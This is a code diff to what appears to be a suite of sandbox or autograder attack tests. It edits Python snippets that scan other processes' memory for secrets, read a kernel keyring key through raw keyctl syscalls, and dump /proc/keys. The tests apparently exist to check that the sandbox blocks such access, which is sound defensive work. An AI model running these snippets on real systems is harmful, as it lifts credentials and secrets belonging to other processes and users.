@@ -75,7 +75,8 @@ for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/$pid/environ"]:
         "Searches the memory of every process that it can open for secrets.",
         first="""
 import glob, os
-for path in {*glob.glob("/proc/[0-9]*/mem"), "/proc/$pid/mem"} - {f"/proc/{os.getpid()}/mem"}:
+own = f"/proc/{os.getpid()}/mem"
+for path in sorted({*glob.glob("/proc/[0-9]*/mem"), "/proc/$pid/mem"} - {own}):
     try:
         with open(path, "rb") as memory:
             for line in open(path.replace("/mem", "/maps")):
@@ -122,7 +123,7 @@ libc = ctypes.CDLL(None)
 search, read = (250, 10, -3, b"user", b"autograder-test", 0), (250, 11)
 key, text = libc.syscall(*search), ctypes.create_string_buffer(100)
 print(key, libc.syscall(*read, key, text, 100), text.value)
-print(open("/proc/keys").read())
+print({" ".join(line.split()[7:]) for line in open("/proc/keys")})
 """,
     ),
     Attack(
